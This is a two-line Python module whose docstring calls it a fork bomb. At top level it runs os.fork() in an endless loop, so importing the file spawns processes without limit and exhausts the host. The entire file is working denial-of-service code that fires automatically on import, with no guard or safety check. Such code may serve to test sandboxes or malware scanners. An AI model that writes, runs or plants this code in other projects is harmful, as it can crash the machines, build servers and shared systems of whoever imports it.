"""A fork bomb at import."""
import os

while True:
    os.fork()
